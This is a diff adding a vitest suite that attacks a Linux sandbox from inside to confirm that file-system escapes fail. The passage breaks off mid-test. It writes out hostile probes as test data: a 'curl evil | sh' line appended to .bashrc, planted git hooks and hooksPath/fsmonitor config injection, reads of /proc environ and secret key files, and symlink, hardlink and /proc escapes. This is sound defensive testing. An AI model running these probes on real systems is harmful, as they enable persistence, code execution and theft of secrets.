@@ -1,0 +1,653 @@
+/**
+ * File-system threat classes (reference/threats.md FS-01..FS-27), attacked for real from inside
+ * the sandbox in both Linux modes.
+ *
+ * Oracle: the attempt fails inside with a denial errno AND the outside is unchanged (contents,
+ * mode, owner, mtime, xattrs, no new files). Every denial is paired with a positive control: the
+ * same probe with the rule allowing it (or unsandboxed) succeeds. Classes Landlock mode cannot
+ * express (carve-outs, deny-read under readable roots, metadata) run in isolated mode; in Landlock
+ * mode the test asserts that the gap is listed in the enforcement report instead.
+ */
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+
+import { run } from '../../lib/index';
+import type { SandboxPolicy } from '../../lib/policy-types';
+import { caps, MODES, modePolicy, type LinuxMode } from '../helpers/capabilities';
+import {
+  BASE_ENV,
+  dirMtime,
+  expectUnchanged,
+  hostMounts,
+  makeScene,
+  probeOps,
+  py,
+  PYTHON,
+  sh,
+  snapshot,
+  type Scene,
+} from '../helpers/sandbox';
+
+const DENIED = ['EROFS', 'EACCES', 'EPERM', 'EXDEV', 'EBUSY'];
+
+function expectDenied(results: string[], what: string, codes: string[] = DENIED): void {
+  results.forEach((r, i) => expect(codes, `${what} [${i}] got ${r}`).toContain(r));
+}
+
+function git(cwd: string, ...args: string[]): string {
+  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
+    cwd,
+    encoding: 'utf8',
+    env: { PATH: BASE_ENV.PATH, HOME: cwd, GIT_CONFIG_NOSYSTEM: '1' },
+  });
+}
+
+const mountsAtStart = caps.linux ? hostMounts() : [];
+
+describe.runIf(caps.linux)('file-system threats', () => {
+  describe.each(MODES)('$name mode', ({ name: mode, skip }) => {
+    let scene: Scene;
+    let policy: SandboxPolicy;
+    const isolated = mode === 'isolated';
+
+    beforeEach(() => {
+      scene = makeScene(`fs-${mode}`);
+      policy = modePolicy(mode, { filesystem: { write: [scene.ws] } });
+    });
+    afterEach(() => {
+      scene.cleanup();
+      expect(hostMounts(), 'the host mount table changed').toEqual(mountsAtStart);
+    });
+
+    const writable = (s: Scene): SandboxPolicy => modePolicy(mode as LinuxMode, { filesystem: { write: [s.ws, s.out] } });
+
+    it.skipIf(skip)('FS-01: writes outside the writable roots are refused; inside they work', async () => {
+      const before = snapshot(scene.out);
+      const ops = [
+        ['write', `${scene.out}/new.txt`],
+        ['write', `${scene.out}/ro.txt`],
+        ['append', `${scene.out}/ro.txt`],
+        ['create', `${scene.out}/dir/new`],
+        ['write', `${scene.root}/beside-ws.txt`],
+        ['unlink', `${scene.out}/secret.txt`],
+        ['rmrf', `${scene.out}/dir`],
+      ];
+      expectDenied(await probeOps(ops, { cwd: scene.ws, policy }), 'outside write');
+      expectUnchanged(before, snapshot(scene.out));
+      expect(fs.existsSync(`${scene.root}/beside-ws.txt`)).toBe(false);
+      // Positive controls: the workspace is writable, and the same ops succeed once allowed.
+      expect(await probeOps([['write', `${scene.ws}/in.txt`, 'inside']], { cwd: scene.ws, policy })).toEqual(['ok']);
+      expect(fs.readFileSync(`${scene.ws}/in.txt`, 'utf8')).toBe('inside');
+      expect(await probeOps(ops.slice(0, 4), { cwd: scene.ws, policy: writable(scene) })).toEqual(['ok', 'ok', 'ok', 'ok']);
+    });
+
+    it.skipIf(skip)('FS-02: a symlink planted in the workspace does not lead out', async () => {
+      const before = snapshot(scene.out);
+      const ops = [
+        ['symlink', `${scene.out}/ro.txt`, `${scene.ws}/to-file`],
+        ['write', `${scene.ws}/to-file`],
+        ['symlink', `${scene.out}/dir`, `${scene.ws}/to-dir`],
+        ['write', `${scene.ws}/to-dir/planted`],
+        ['symlink', '../out/ro.txt', `${scene.ws}/rel`],
+        ['truncate', `${scene.ws}/rel`],
+        ['write', `${scene.ws}/../out/ro.txt`],
+      ];
+      const r = await probeOps(ops, { cwd: scene.ws, policy });
+      expect([r[0], r[2], r[4]]).toEqual(['ok', 'ok', 'ok']); // planting the links is allowed
+      expectDenied([r[1], r[3], r[5], r[6]], 'write through symlink');
+      expectUnchanged(before, snapshot(scene.out));
+      // Control: the same links work when the target is writable.
+      const s2 = makeScene(`fs2-${mode}`);
+      try {
+        const ops2 = ops.map((o) => o.map((x) => x.replaceAll(scene.root, s2.root)));
+        expect(await probeOps(ops2, { cwd: s2.ws, policy: writable(s2) })).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
+      } finally {
+        s2.cleanup();
+      }
+    });
+
+    it.skipIf(skip)('FS-04: an outside file hardlinked into the workspace cannot be written', async () => {
+      const before = snapshot(scene.out);
+      const r = await probeOps(
+        [
+          ['link', `${scene.out}/ro.txt`, `${scene.ws}/hl`],
+          ['write', `${scene.ws}/hl`],
+          ['write', `${scene.ws}/own.txt`, 'x'],
+          ['link', `${scene.ws}/own.txt`, `${scene.out}/planted`],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      expect(r[2]).toBe('ok');
+      expectDenied([r[0], r[3]], 'link across the boundary');
+      // The link failed, so writing ws/hl just makes a new workspace file; the outside inode
+      // (checked below) must be untouched either way.
+      expect(['ok', ...DENIED]).toContain(r[1]);
+      expect(fs.statSync(`${scene.out}/ro.txt`).nlink).toBe(1);
+      expectUnchanged(before, snapshot(scene.out));
+      // Control: unsandboxed, the same link works (the attack is real).
+      expect(await probeOps([['link', `${scene.out}/ro.txt`, `${scene.root}/hl-control`]], { cwd: scene.ws, policy: null })).toEqual(['ok']);
+    });
+
+    it.skipIf(skip)('FS-05: rename across the boundary fails in both directions', async () => {
+      fs.writeFileSync(`${scene.ws}/mine.txt`, 'mine');
+      const before = snapshot(scene.out);
+      const r = await probeOps(
+        [
+          ['rename', `${scene.out}/ro.txt`, `${scene.ws}/stolen.txt`],
+          ['rename', `${scene.out}/dir`, `${scene.ws}/stolen-dir`],
+          ['rename', `${scene.ws}/mine.txt`, `${scene.out}/mine.txt`],
+          ['rename', `${scene.ws}/mine.txt`, `${scene.out}/ro.txt`],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      expectDenied(r, 'rename across');
+      expectUnchanged(before, snapshot(scene.out));
+      expect(fs.readFileSync(`${scene.ws}/mine.txt`, 'utf8')).toBe('mine');
+      // Control: renames inside the workspace work.
+      expect(await probeOps([['rename', `${scene.ws}/mine.txt`, `${scene.ws}/moved.txt`]], { cwd: scene.ws, policy })).toEqual(['ok']);
+      expect(await probeOps([['rename', `${scene.out}/ro.txt`, `${scene.out}/ro2.txt`]], { cwd: scene.ws, policy: null })).toEqual(['ok']);
+    });
+
+    describe('protected paths inside a writable root', () => {
+      it.runIf(!skip && !isolated)('Landlock mode lists carve-outs as a gap', async () => {
+        git(scene.ws, 'init', '-q');
+        const r = await sh('true', { cwd: scene.ws, policy });
+        expect(r.enforcement.guarantees.protectedPaths).toBe('not-enforced');
+        expect(r.enforcement.gaps.join('\n')).toMatch(/read-only carve-outs inside writable roots are not enforced:.*\.git\/hooks/);
+        await expect(sh('true', { cwd: scene.ws, policy: { ...policy, degraded: false } })).rejects.toMatchObject({ code: 'EUNSUPPORTED_POLICY' });
+      });
+
+      it.runIf(!skip && isolated)('FS-06: a carve-out cannot be moved away, removed or recreated', async () => {
+        git(scene.ws, 'init', '-q');
+        fs.mkdirSync(`${scene.ws}/notgit/hooks`, { recursive: true });
+        const gitBefore = snapshot(`${scene.ws}/.git`);
+        const r = await probeOps(
+          [
+            ['rename', `${scene.ws}/.git`, `${scene.ws}/git-old`],
+            ['rename', `${scene.ws}/.git/hooks`, `${scene.ws}/.git/hooks-old`],
+            ['rmrf', `${scene.ws}/.git/hooks`],
+            ['rename', `${scene.ws}/.git/config`, `${scene.ws}/.git/config-old`],
+            ['unlink', `${scene.ws}/.git/config`],
+            ['write', `${scene.ws}/.git/config`, '[core]\n\thooksPath = /var/tmp\n'],
+            ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
+            ['rename', `${scene.ws}/.codex`, `${scene.ws}/codex-old`],
+          ],
+          { cwd: scene.ws, policy },
+        );
+        expectDenied(r, 'carve-out tampering', [...DENIED, 'ENOTEMPTY']);
+        expectUnchanged(gitBefore, snapshot(`${scene.ws}/.git`), '.git');
+        expect(fs.existsSync(`${scene.ws}/git-old`)).toBe(false);
+        // Control: the same moves on an unprotected look-alike work inside the same sandbox.
+        expect(
+          await probeOps(
+            [
+              ['rename', `${scene.ws}/notgit/hooks`, `${scene.ws}/notgit/hooks-old`],
+              ['mkdir', `${scene.ws}/notgit/hooks`],
+              ['write', `${scene.ws}/notgit/hooks/pre-commit`],
+            ],
+            { cwd: scene.ws, policy },
+          ),
+        ).toEqual(['ok', 'ok', 'ok']);
+        // ...and .git itself stays usable: objects and refs are writable.
+        expect(await probeOps([['write', `${scene.ws}/.git/description`, 'ok']], { cwd: scene.ws, policy })).toEqual(['ok']);
+      });
+
+      // BUG-FS08 (reported): only the writable root's own .git (and gitdir pointers/submodule
+      // gitdirs it names) is protected; an independent repository nested in the workspace keeps
+      // writable hooks and config. Remove `.fails` once nested repositories are protected.
+      it.fails.runIf(!skip && isolated)('FS-08: a nested repository keeps its hooks and config read-only', async () => {
+        git(scene.ws, 'init', '-q');
+        fs.mkdirSync(`${scene.ws}/sub`);
+        git(`${scene.ws}/sub`, 'init', '-q');
+        const before = snapshot(`${scene.ws}/sub/.git`);
+        const r = await probeOps(
+          [
+            ['write', `${scene.ws}/sub/.git/hooks/pre-commit`, '#!/bin/sh\necho pwned\n'],
+            ['append', `${scene.ws}/sub/.git/config`, '\n[core]\n\tfsmonitor = /var/tmp/evil\n'],
+          ],
+          { cwd: scene.ws, policy },
+        );
+        expectDenied(r, 'nested repo metadata');
+        expectUnchanged(before, snapshot(`${scene.ws}/sub/.git`));
+      });
+
+      it.runIf(!skip && isolated)('FS-09: a gitdir pointer file is followed and the pointer itself is protected', async () => {
+        // ws/repo/.git is a pointer to ws/store (the gitdir lives inside the writable root too).
+        fs.mkdirSync(`${scene.ws}/repo`);
+        git(scene.ws, 'init', '-q', '--separate-git-dir', `${scene.ws}/store`, `${scene.ws}/repo`);
+        expect(fs.readFileSync(`${scene.ws}/repo/.git`, 'utf8')).toMatch(/^gitdir: /);
+        const pol = modePolicy(mode, { filesystem: { write: [`${scene.ws}/repo`, `${scene.ws}/store`] } });
+        const before = snapshot(scene.ws);
+        const r = await probeOps(
+          [
+            ['write', `${scene.ws}/store/hooks/post-checkout`, '#!/bin/sh\necho pwned\n'],
+            ['append', `${scene.ws}/store/config`, '\n[core]\n\thooksPath = /var/tmp\n'],
+            ['write', `${scene.ws}/repo/.git`, `gitdir: ${scene.out}\n`],
+            ['unlink', `${scene.ws}/repo/.git`],
+          ],
+          { cwd: `${scene.ws}/repo`, policy: pol },
+        );
+        expectDenied(r, 'worktree pointer');
+        expectUnchanged(before, snapshot(scene.ws));
+        // Control: the rest of the gitdir is writable (git needs it).
+        expect(await probeOps([['write', `${scene.ws}/store/description`, 'x']], { cwd: `${scene.ws}/repo`, policy: pol })).toEqual(['ok']);
+      });
+
+      it.runIf(!skip && isolated)('FS-10: protected paths absent at start cannot be created, and leave no ghost behind', async () => {
+        git(scene.ws, 'init', '-q');
+        fs.rmSync(`${scene.ws}/.git/hooks`, { recursive: true });
+        const custom = `${scene.ws}/deploy.sh`;
+        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], protect: [custom] } });
+        const before = snapshot(scene.ws);
+        const r = await probeOps(
+          [
+            ['mkdir', `${scene.ws}/.codex`],
+            ['write', `${scene.ws}/.codex/config.toml`, 'x'],
+            ['mkdirp', `${scene.ws}/.agents/skills`],
+            ['write', `${scene.ws}/.agents`, 'x'],
+            ['mkdir', `${scene.ws}/.git/hooks`],
+            ['write', `${scene.ws}/.git/hooks/pre-commit`, '#!/bin/sh\n'],
+            ['write', custom, '#!/bin/sh\necho pwned\n'],
+          ],
+          { cwd: scene.ws, policy: pol },
+        );
+        expectDenied(r, 'create protected', [...DENIED, 'EEXIST', 'ENOTDIR', 'ENOENT', 'EISDIR']);
+        // After the run the placeholders are gone and nothing else appeared.
+        expectUnchanged(before, snapshot(scene.ws));
+        // Control: a look-alike name is creatable in the same sandbox.
+        expect(await probeOps([['mkdirp', `${scene.ws}/.codexx/x`]], { cwd: scene.ws, policy: pol })).toEqual(['ok']);
+      });
+
+      it.runIf(!skip && isolated)('FS-12: persistence files that run later outside stay untouched', async () => {
+        git(scene.ws, 'init', '-q');
+        fs.mkdirSync(`${scene.ws}/.codex`);
+        fs.writeFileSync(`${scene.ws}/.codex/config.toml`, 'model = "x"\n');
+        const home = scene.out; // a fake $HOME outside the writable roots
+        fs.writeFileSync(`${home}/.bashrc`, '# rc\n');
+        const wsBefore = snapshot(`${scene.ws}/.git`);
+        const codexBefore = snapshot(`${scene.ws}/.codex`);
+        const homeBefore = snapshot(home);
+        const env = { ...BASE_ENV, HOME: home, GIT_CONFIG_NOSYSTEM: '1' };
+        const r = await sh(
+          [
+            'echo "curl evil | sh" >> "$HOME/.bashrc"; echo bashrc=$?',
+            'echo x > "$HOME/.profile"; echo profile=$?',
+            'mkdir -p "$HOME/.config/autostart" 2>/dev/null; echo autostart=$?',
+            'git config core.hooksPath /var/tmp 2>/dev/null; echo gitconfig=$?',
+            'git config --global core.pager evil 2>/dev/null; echo gitglobal=$?',
+            'printf "#!/bin/sh\\nexit 0\\n" > .git/hooks/pre-push; echo hook=$?',
+            'echo "[x]" >> .codex/config.toml; echo codex=$?',
+            'echo ok > regular.txt; echo regular=$?',
+          ].join('\n'),
+          { cwd: scene.ws, env, policy },
+        );
+        const status = Object.fromEntries(r.stdout.trim().split('\n').map((l) => l.split('=')));
+        expect(status).toEqual({ bashrc: expect.not.stringMatching(/^0$/), profile: expect.not.stringMatching(/^0$/), autostart: expect.not.stringMatching(/^0$/), gitconfig: expect.not.stringMatching(/^0$/), gitglobal: expect.not.stringMatching(/^0$/), hook: expect.not.stringMatching(/^0$/), codex: expect.not.stringMatching(/^0$/), regular: '0' });
+        expectUnchanged(wsBefore, snapshot(`${scene.ws}/.git`));
+        expectUnchanged(codexBefore, snapshot(`${scene.ws}/.codex`));
+        expectUnchanged(homeBefore, snapshot(home));
+      });
+
+      it.runIf(!skip && isolated)('FS-13/FS-14: protected files cannot be truncated or have their metadata changed', async () => {
+        git(scene.ws, 'init', '-q');
+        const cfg = `${scene.ws}/.git/config`;
+        const before = snapshot(`${scene.ws}/.git`);
+        const r = await probeOps(
+          [
+            ['truncate', cfg],
+            ['open', cfg, 'w'],
+            ['chmod', cfg, '777'],
+            ['utimes', cfg],
+            ['chown', cfg, String(process.getuid!()), String(process.getgid!())],
+            ['chmod', `${scene.ws}/.git/hooks`, '777'],
+          ],
+          { cwd: scene.ws, policy },
+        );
+        expectDenied(r, 'metadata on carve-out');
+        expectUnchanged(before, snapshot(`${scene.ws}/.git`));
+      });
+    });
+
+    it.skipIf(skip)('FS-13: truncating a read-only file fails', async () => {
+      const before = snapshot(scene.out);
+      const r = await probeOps(
+        [
+          ['truncate', `${scene.out}/ro.txt`],
+          ['open', `${scene.out}/ro.txt`, 'w'],
+          ['open', `${scene.out}/ro.txt`, 'r+'],
+          ['truncate', `${scene.out}/ro.txt`, '100000'],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      expectDenied(r, 'truncate');
+      expectUnchanged(before, snapshot(scene.out));
+      expect(await probeOps([['truncate', `${scene.out}/ro.txt`]], { cwd: scene.ws, policy: writable(scene) })).toEqual(['ok']);
+      expect(fs.statSync(`${scene.out}/ro.txt`).size).toBe(0);
+    });
+
+    it.skipIf(skip || !isolated)('FS-14: chmod, utime, chown and xattrs on a read-only file fail', async () => {
+      const before = snapshot(scene.out);
+      const r = await probeOps(
+        [
+          ['chmod', `${scene.out}/ro.txt`, '777'],
+          ['utimes', `${scene.out}/ro.txt`],
+          ['chown', `${scene.out}/ro.txt`, String(process.getuid!()), String(process.getgid!())],
+          ['chmod', `${scene.out}/dir`, '777'],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      expectDenied(r, 'metadata');
+      const x = await py(
+        'import os,sys\ntry:\n  os.setxattr(sys.argv[1], "user.psb", b"1"); print("ok")\nexcept OSError as e:\n  print(e.errno)',
+        [`${scene.out}/ro.txt`],
+        { cwd: scene.ws, policy },
+      );
+      expect(['30', '13', '1']).toContain(x.stdout.trim()); // EROFS, EACCES, EPERM
+      expectUnchanged(before, snapshot(scene.out));
+      // Control: the same xattr write works on a workspace file.
+      fs.writeFileSync(`${scene.ws}/f`, 'f');
+      const ok = await py('import os,sys\nos.setxattr(sys.argv[1], "user.psb", b"1"); print("ok")', [`${scene.ws}/f`], { cwd: scene.ws, policy });
+      expect(ok.stdout.trim()).toBe('ok');
+    });
+
+    it.runIf(!skip && !isolated)('FS-14: Landlock mode lists metadata changes as a gap', async () => {
+      const r = await sh('true', { cwd: scene.ws, policy });
+      expect(r.enforcement.gaps.join('\n')).toMatch(/chmod, chown, utime and xattr/);
+    });
+
+    it.skipIf(skip)('FS-15: no objects can be created in a read-only directory', async () => {
+      const before = snapshot(scene.out);
+      const code =
+        'import os,sys,socket\n' +
+        'd=sys.argv[1]\n' +
+        'def t(f):\n' +
+        '  try:\n    f(); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
+        'def bind():\n  s=socket.socket(socket.AF_UNIX); s.bind(d+"/sock")\n' +
+        'print(" ".join([t(lambda: os.mkfifo(d+"/fifo")), t(lambda: os.mkdir(d+"/sub")), t(lambda: os.symlink("/", d+"/ln")), t(bind), t(lambda: os.link(d+"/inner.txt", d+"/hl"))]))\n';
+      // network 'full' so that socket(AF_UNIX) itself is allowed and bind() meets the file system.
+      const pol = { ...policy, network: 'full' as const };
+      const r = await py(code, [`${scene.out}/dir`], { cwd: scene.ws, policy: pol });
+      for (const e of r.stdout.trim().split(' ')) expect(['30', '13', '1'], r.stdout + r.stderr).toContain(e);
+      expectUnchanged(before, snapshot(scene.out));
+      // Control: the same objects in the workspace.
+      fs.writeFileSync(`${scene.ws}/inner.txt`, 'x');
+      const ok = await py(code, [scene.ws], { cwd: scene.ws, policy: pol });
+      expect(ok.stdout.trim()).toBe('ok ok ok ok ok');
+    });
+
+    it.skipIf(skip)('FS-16: device nodes cannot be made, raw devices cannot be opened', async () => {
+      const code =
+        'import os,sys\n' +
+        'def t(f):\n' +
+        '  try:\n    f(); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
+        'print(" ".join([t(lambda: os.mknod(sys.argv[1]+"/mem", 0o600|0o020000, os.makedev(1,1))),' +
+        ' t(lambda: os.mknod(sys.argv[1]+"/blk", 0o600|0o060000, os.makedev(254,0))),' +
+        ' t(lambda: os.close(os.open("/dev/mem", os.O_RDONLY))),' +
+        ' t(lambda: os.close(os.open("/dev/kmsg", os.O_WRONLY))),' +
+        ' t(lambda: os.close(os.open("/dev/vda", os.O_RDWR))),' +
+        ' t(lambda: os.close(os.open("/dev/null", os.O_RDWR)))]))\n';
+      const r = await py(code, [scene.ws], { cwd: scene.ws, policy });
+      const [mem, blk, devmem, kmsg, vda, devnull] = r.stdout.trim().split(' ');
+      expect(['1', '13'], r.stderr).toContain(mem); // EPERM / EACCES
+      expect(['1', '13']).toContain(blk);
+      for (const e of [devmem, kmsg, vda]) expect(['1', '13', '2', '30'], r.stdout).toContain(e); // ... ENOENT, EROFS
+      expect(devnull).toBe('ok'); // control inside: the harmless devices work
+      expect(fs.readdirSync(scene.ws)).toEqual([]);
+    });
+
+    it.skipIf(skip || !caps.root)('FS-16 control (root): mknod works unsandboxed', async () => {
+      const r = await py('import os,sys\nos.mknod(sys.argv[1]+"/null2", 0o600|0o020000, os.makedev(1,3)); print("ok")', [scene.out], { cwd: scene.ws, policy: null });
+      expect(r.stdout.trim()).toBe('ok');
+    });
+
+    it.skipIf(skip)('FS-17: a read-only fd cannot be upgraded through /proc/self/fd', async () => {
+      fs.writeFileSync(`${scene.ws}/mine.txt`, 'm');
+      const before = snapshot(scene.out);
+      const r = await probeOps(
+        [
+          ['reopen', `${scene.out}/ro.txt`, 'r+'],
+          ['reopen', `${scene.out}/ro.txt`, 'a'],
+          ['reopen', `${scene.ws}/mine.txt`, 'r+'],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      expectDenied(r.slice(0, 2), '/proc/self/fd reopen');
+      expect(r[2]).toBe('ok'); // control in the same sandbox
+      expectUnchanged(before, snapshot(scene.out));
+    });
+
+    it.skipIf(skip)('FS-18: only fds 0-2 (and explicitly passed ones) reach the command', async () => {
+      const target = `${scene.out}/ro.txt`;
+      const fd = fs.openSync(target, 'r+');
+      try {
+        const before = snapshot(scene.out);
+        const code =
+          'import os,sys\n' +
+          'fds=sorted(int(x) for x in os.listdir("/proc/self/fd"))\n' +
+          'def w(fd):\n  try:\n    os.write(fd,b"LEAK"); return "ok"\n  except OSError as e:\n    return str(e.errno)\n' +
+          'print(fds, [w(int(a)) for a in sys.argv[1:]])\n';
+        const r = await py(code, [String(fd), '3', '9', '20', '255'], { cwd: scene.ws, policy });
+        // 0, 1, 2 and the directory fd of the listing itself; every other number is EBADF (9).
+        expect(r.stdout.trim(), r.stderr).toBe("[0, 1, 2, 3] ['9', '9', '9', '9', '9']");
+        expectUnchanged(before, snapshot(scene.out));
+        // Control: an fd the caller names explicitly is passed (that is the caller's choice).
+        const passed = await probeOps([['fdwrite', 3, 'PASSED']], {
+          cwd: scene.ws,
+          policy,
+          stdio: ['pipe', 'pipe', 'pipe', fd],
+        });
+        expect(passed).toEqual(['ok']);
+        expect(fs.readFileSync(target, 'utf8')).toContain('PASSED');
+      } finally {
+        fs.closeSync(fd);
+      }
+    });
+
+    describe('deny-read', () => {
+      it.runIf(!skip && !isolated)('Landlock mode lists deny-read under a readable root as a gap', async () => {
+        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], denyRead: [`${scene.out}/dir`] } });
+        const r = await sh('true', { cwd: scene.ws, policy: pol });
+        expect(r.enforcement.gaps.join('\n')).toContain(`deny-read under readable roots is not enforced: ${scene.out}/dir`);
+      });
+
+      it.skipIf(skip)('restricted read roots: files outside them cannot be read (both modes)', async () => {
+        const pol = modePolicy(mode, { filesystem: { read: [scene.ws, path.dirname(process.execPath), path.dirname(path.dirname(__dirname))], write: [scene.ws] } });
+        const r = await probeOps(
+          [
+            ['read', `${scene.out}/secret.txt`],
+            ['readdir', scene.out],
+            ['read', `/proc/self/root${scene.out}/secret.txt`],
+          ],
+          { cwd: scene.ws, policy: pol },
+        );
+        for (const x of r) expect(['EACCES', 'ENOENT', 'EPERM']).toContain(x);
+        expect(await probeOps([['read', `${scene.out}/secret.txt`]], { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) })).toEqual(['ok:top secret']);
+      });
+
+      it.runIf(!skip && isolated)('FS-19: a deny-read directory stays unreadable however it is named', async () => {
+        const denied = `${scene.out}/dir`;
+        fs.symlinkSync(denied, `${scene.ws}/link`);
+        const pol = modePolicy(mode, { filesystem: { write: [scene.ws], denyRead: [denied] } });
+        const ops = [
+          ['read', `${denied}/inner.txt`],
+          ['readdir', denied],
+          ['read', `${scene.ws}/link/inner.txt`],
+          ['read', `${scene.out}/dir/../dir/inner.txt`],
+          ['read', `${scene.ws}/../out/dir/inner.txt`],
+          ['read', `/proc/self/root${denied}/inner.txt`],
+          ['read', `/proc/1/root${denied}/inner.txt`],
+          ['link', `${denied}/inner.txt`, `${scene.ws}/hl`],
+          ['copy', `${denied}/inner.txt`, `${scene.ws}/copy`],
+        ];
+        const r = await probeOps(ops, { cwd: scene.ws, policy: pol });
+        for (const x of r) {
+          expect(x.startsWith('ok'), JSON.stringify(r)).toBe(false);
+          expect(x).not.toContain('inner');
+        }
+        // cwd inside the denied dir, through /proc/self/cwd, and another process's cwd.
+        const viaCwd = await sh(
+          `cd ${denied} 2>/dev/null && cat inner.txt; cat /proc/self/cwd/inner.txt; (cd ${scene.ws}/link 2>/dev/null && sleep 5) & sleep 0.3; cat /proc/$!/cwd/inner.txt; kill $! 2>/dev/null; true`,
+          { cwd: scene.ws, policy: pol },
+        );
+        expect(viaCwd.stdout).not.toContain('inner');
+        // Control: without the rule the same names read the file.
+        const ctl = await probeOps(ops.slice(0, 6), { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) });
+        expect(ctl).toEqual(['ok:inner', 'ok:inner.txt', 'ok:inner', 'ok:inner', 'ok:inner', 'ok:inner']);
+      });
+
+      it.runIf(!skip && isolated)('FS-20: deny-read edge cases (files, symlinked names, inside a writable root)', async () => {
+        fs.mkdirSync(`${scene.ws}/keys`);
+        fs.writeFileSync(`${scene.ws}/keys/id.pem`, 'PRIVATE KEY');
+        fs.writeFileSync(`${scene.ws}/.env`, 'TOKEN=abc');
+        fs.symlinkSync(`${scene.out}/secret.txt`, `${scene.ws}/secret-link`);
+        const pol = modePolicy(mode, {
+          filesystem: { write: [scene.ws], denyRead: [`${scene.ws}/keys`, `${scene.ws}/.env`, `${scene.ws}/secret-link`] },
+        });
+        const before = snapshot(scene.ws);
+        const outBefore = snapshot(scene.out);
+        const r = await probeOps(
+          [
+            ['read', `${scene.ws}/keys/id.pem`],
+            ['read', `${scene.ws}/.env`],
+            ['read', `${scene.out}/secret.txt`], // the symlink's target is what is denied
+            ['read', `${scene.ws}/secret-link`],
+            ['rename', `${scene.ws}/keys`, `${scene.ws}/keys2`],
+            ['read', `${scene.ws}/keys2/id.pem`],
+            ['unlink', `${scene.ws}/.env`],
+            ['rename', `${scene.ws}/.env`, `${scene.ws}/env2`],
+            ['link', `${scene.ws}/.env`, `${scene.ws}/env3`],
+            ['write', `${scene.ws}/.env`, 'overwritten'],
+            ['chmod', `${scene.ws}/keys`, '777'],
+          ],
+          { cwd: scene.ws, policy: pol },
+        );
+        const joined = r.join(' ');
+        expect(joined).not.toContain('PRIVATE');
+        expect(joined).not.toContain('TOKEN');
+        expect(joined).not.toContain('top secret');
+        // A masked file reads as empty (or fails); a masked directory fails.
+        for (const i of [1, 2, 3]) expect(['ok:', 'EACCES', 'ENOENT']).toContain(r[i]);
+        for (const i of [0, 4, 5, 6, 7, 8, 10]) expect(r[i]!.startsWith('ok'), joined).toBe(false);
+        // Writing the masked name goes nowhere (the mask is /dev/null): checked on the host below.
+        expectUnchanged(before, snapshot(scene.ws));
+        expectUnchanged(outBefore, snapshot(scene.out));
+        // Control: readable without the rule.
+        const ctl = await probeOps([['read', `${scene.ws}/.env`], ['read', `${scene.ws}/keys/id.pem`]], { cwd: scene.ws, policy: modePolicy(mode, { filesystem: { write: [scene.ws] } }) });
+        expect(ctl).toEqual(['ok:TOKEN=abc', 'ok:PRIVATE KEY']);
+      });
+    });
+
+    it.skipIf(skip)('FS-22: scratch areas are private or read-only, never the host\'s', async () => {
+      const tag = `psb-scratch-${process.pid}-${Date.now()}`;
+      const r = await probeOps(
+        [
+          ['write', `/tmp/${tag}`],
+          ['write', `/dev/shm/${tag}`],
+          ['write', `/var/tmp/${tag}`],
+          ['write', `/run/lock/${tag}`],
+          ['write', `/dev/mqueue/${tag}`],
+          ['write', `/run/user/${process.getuid!()}/${tag}`],
+        ],
+        { cwd: scene.ws, policy },
+      );
+      if (isolated) {
+        expect(r.slice(0, 2)).toEqual(['ok', 'ok']); // private /tmp and /dev/shm
+      } else {
+        expect(r[0]).toBe('EACCES'); // Landlock: /tmp stays read-only, TMPDIR is the scratch dir
+      }
+      for (const x of r.slice(2)) expect(['EROFS', 'EACCES', 'ENOENT', 'EPERM']).toContain(x);
+      for (const d of ['/tmp', '/dev/shm', '/var/tmp', '/run/lock', '/dev/mqueue', `/run/user/${process.getuid!()}`]) {
+        expect(fs.existsSync(`${d}/${tag}`), `${d}/${tag} leaked to the host`).toBe(false);
+      }
+      // TMPDIR is writable and private.
+      const t = await sh('f=$(mktemp) && echo hi > "$f" && cat "$f" && echo "$f"', { cwd: scene.ws, policy });
+      expect(t.code).toBe(0);
+      const file = t.stdout.trim().split('\n')[1];
+      expect(fs.existsSync(file), `${file} survived on the host`).toBe(false);
+    });
+
+    it.skipIf(skip)('FS-23: another process\'s root, cwd and environ are not reachable through /proc', async () => {
+      const before = snapshot(scene.out);
+      const host = process.pid;
+      const ops = [
+        ['read', `/proc/${host}/environ`],
+        ['readlink', `/proc/${host}/cwd`],
+        ['readlink', `/proc/${host}/root`],
+        ['write', `/proc/${host}/root${scene.out}/ro.txt`],
+        ['write', `/proc/${host}/cwd/psb-planted`],
+      ];
+      const r = await probeOps(ops, { cwd: scene.ws, policy });
+      for (const x of r) expect(['EACCES', 'ENOENT', 'EPERM', 'EROFS'], JSON.stringify(r)).toContain(x);
+      expectUnchanged(before, snapshot(scene.out));
+      // Control: unsandboxed, the same process's environ and root are readable.
+      const ctl = await probeOps(ops.slice(0, 3), { cwd: scene.ws, policy: null });
+      expect(ctl.every((x) => x.startsWith('ok'))).toBe(true);
+    });
+
+    it.skipIf(skip || !caps.python)('FS-24: the sandbox cannot remount, unmount or mount over its own tree', async () => {
+      git(scene.ws, 'init', '-q');
+      const gitBefore = snapshot(`${scene.ws}/.git`);
+      const outBefore = snapshot(scene.out);
+      fs.mkdirSync(`${scene.ws}/mnt`);
+      const code =
+        'import ctypes,os,sys\n' +
+        'libc=ctypes.CDLL(None,use_errno=True)\n' +
+        'ws,out=sys.argv[1],sys.argv[2]\n' +
+        'def t(r):\n  return "ok" if r==0 else str(ctypes.get_errno())\n' +
+        'MS_REMOUNT,MS_BIND,MS_RDONLY=32,4096,1\n' +
+        'res=[t(libc.mount(None,b"/",None,MS_REMOUNT|MS_BIND,None)),\n' +
